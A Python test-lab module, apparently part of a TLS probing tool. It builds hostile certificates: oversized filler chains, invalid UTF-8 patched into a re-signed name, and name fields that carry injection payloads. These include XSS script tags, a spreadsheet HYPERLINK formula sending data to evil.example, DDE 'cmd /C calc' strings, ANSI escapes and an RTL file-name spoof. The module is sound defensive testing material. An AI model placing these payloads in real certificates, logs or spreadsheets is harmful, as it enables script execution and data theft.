"""Certificates for the hostile lab: hostile strings (invalid UTF-8 included), huge chains, extreme dates.

cryptography only writes valid strings, so invalid UTF-8 is made by patching a same-length placeholder in
the DER of the to-be-signed part and signing that again with the issuer's key.
"""

from __future__ import annotations

import datetime as dt
import ipaddress
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID, ObjectIdentifier

from probe.lab.certs import LabCA

INVALID_UTF8_PLACEHOLDER = "INVALIDUTF8PLACEHOLDER"
INVALID_UTF8_BYTES = b"bad\xff\xfe\xc3(\xed\xa0\x80end!!!!!\xf8\x88\x80\x80"  # same length as the placeholder
FILLER_OID = ObjectIdentifier("1.3.6.1.4.1.55555.1.1")

# Attacker-controlled text a certificate may carry (each lands in subject, issuer or SANs).
HOSTILE_CN = '<script>alert("cn")</script><img src=x onerror=alert(1)>'
HOSTILE_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_UNIT = "\x1b[31mRED\x1b[0m\x1b]0;pwned title\x07\nforged line\r\n+cmd|' /C calc'!A0"
HOSTILE_LOCALITY = "\u202egnp.exe\u202c @SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SANS = ("<b>bold</b>.hostile.test", "=cmd.hostile.test", "line\nbreak.hostile.test", "\x1b[2Jclear.test")

assert len(INVALID_UTF8_BYTES) == len(INVALID_UTF8_PLACEHOLDER.encode())


def _key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _write(der: bytes, key: ec.EllipticCurvePrivateKey, prefix: Path, extra_pem: bytes = b"") -> tuple[Path, Path]:
    """Write `<prefix>.pem` (the leaf, then `extra_pem`) and `<prefix>.key`."""
    cert_path, key_path = prefix.with_suffix(".pem"), prefix.with_suffix(".key")
    cert_path.write_bytes(_der_to_pem(der) + extra_pem)
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    key_path.chmod(0o600)
    return cert_path, key_path


def _der_to_pem(der: bytes) -> bytes:
    import base64

    body = base64.encodebytes(der).replace(b"\n", b"")
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return b"-----BEGIN CERTIFICATE-----\n" + b"\n".join(lines) + b"\n-----END CERTIFICATE-----\n"


def _alt_names(names: tuple[str, ...]) -> x509.SubjectAlternativeName:
    general: list[x509.GeneralName] = []
    for name in names:
        try:
            general.append(x509.IPAddress(ipaddress.ip_address(name)))
        except ValueError:
            general.append(x509.DNSName(name))
    return x509.SubjectAlternativeName(general)


def _builder(subject: x509.Name, issuer: x509.Name, key: ec.EllipticCurvePrivateKey, not_before: dt.datetime,
             not_after: dt.datetime, sans: tuple[str, ...]) -> x509.CertificateBuilder:
    return (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before)
        .not_valid_after(not_after)
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .add_extension(_alt_names(sans), critical=False)
    )


def _now() -> dt.datetime:
    return dt.datetime.now(dt.UTC).replace(microsecond=0)


def issue_plain(ca: LabCA, host: str, prefix: Path, *, sans: tuple[str, ...] = (),
                not_before: dt.datetime | None = None, not_after: dt.datetime | None = None,
                extra_pem: bytes = b"") -> tuple[Path, Path]:
    """A P-256 leaf for `host` from the lab CA (dates default to yesterday .. in a year)."""
    key = _key()
    now = _now()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    builder = _builder(name, ca.cert.subject, key, not_before or now - dt.timedelta(days=1),
                       not_after or now + dt.timedelta(days=365), sans or (host,))
    builder = builder.add_extension(
        x509.AuthorityKeyIdentifier.from_issuer_public_key(ca.key.public_key()), critical=False
    )
    cert = builder.sign(ca.key, hashes.SHA256())
    return _write(cert.public_bytes(serialization.Encoding.DER), key, prefix, extra_pem)


def _hostile_name() -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, HOSTILE_CN),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, HOSTILE_ORG),
            x509.NameAttribute(NameOID.ORGANIZATIONAL_UNIT_NAME, HOSTILE_UNIT),
            x509.NameAttribute(NameOID.LOCALITY_NAME, HOSTILE_LOCALITY),
        ]
    )


def issue_hostile_strings(host: str, prefix: Path) -> tuple[Path, Path]:
    """A self-signed leaf whose subject and issuer carry HTML, formulas, ANSI escapes, newlines, RTL
    overrides; its SANs carry the same kinds of text and a name of invalid UTF-8 (OpenSSL refuses invalid
    UTF-8 in names at load, and cryptography refuses bad bytes in any name string when parsing)."""
    key = _key()
    now = _now()
    name = _hostile_name()
    builder = _builder(name, name, key, now - dt.timedelta(days=1), now + dt.timedelta(days=365),
                       (host, *HOSTILE_SANS, INVALID_UTF8_PLACEHOLDER + ".hostile.test"))
    cert = builder.sign(key, hashes.SHA256())
    tbs = cert.tbs_certificate_bytes
    placeholder = INVALID_UTF8_PLACEHOLDER.encode()
    assert tbs.count(placeholder) == 1, "one SAN holds the placeholder"
    patched = tbs.replace(placeholder, INVALID_UTF8_BYTES)
    signature = key.sign(patched, ec.ECDSA(hashes.SHA256()))
    der = _certificate_der(patched, _signature_algorithm_der(cert), signature)
    return _write(der, key, prefix)


def issue_huge_chain(ca: LabCA, host: str, prefix: Path, *, total_bytes: int = 300_000) -> tuple[Path, Path]:
    """A leaf from the lab CA served with filler certificates (big private extensions) up to `total_bytes`."""
    filler_key = _key()
    now = _now()
    pems: list[bytes] = []
    size = 0
    index = 0
    while size < total_bytes:
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"filler {index}.hostile.test")])
        filler = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(filler_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=365))
            .add_extension(x509.UnrecognizedExtension(FILLER_OID, bytes([0x04, 0x82, 0x0F, 0xA0]) + b"F" * 4000),
                           critical=False)
            .sign(filler_key, hashes.SHA256())
        )
        der = filler.public_bytes(serialization.Encoding.DER)
        size += len(der)
        pems.append(filler.public_bytes(serialization.Encoding.PEM))
        index += 1
    return issue_plain(ca, host, prefix, extra_pem=b"".join(pems))


def _read_element(data: bytes, offset: int) -> tuple[int, int]:
    """(start of content, end of element) of the DER element at `offset`."""
    length = data[offset + 1]
    start = offset + 2
    if length & 0x80:
        count = length & 0x7F
        length = int.from_bytes(data[start : start + count], "big")
        start += count
    return start, start + length


def _signature_algorithm_der(cert: x509.Certificate) -> bytes:
    der = cert.public_bytes(serialization.Encoding.DER)
    body, _ = _read_element(der, 0)
    _, tbs_end = _read_element(der, body)
    _, alg_end = _read_element(der, tbs_end)
    return der[tbs_end:alg_end]


def _der_length(length: int) -> bytes:
    if length < 0x80:
        return bytes([length])
    raw = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(raw)]) + raw


def _certificate_der(tbs: bytes, algorithm: bytes, signature: bytes) -> bytes:
    bit_string = b"\x00" + signature
    body = tbs + algorithm + b"\x03" + _der_length(len(bit_string)) + bit_string
    return b"\x30" + _der_length(len(body)) + body
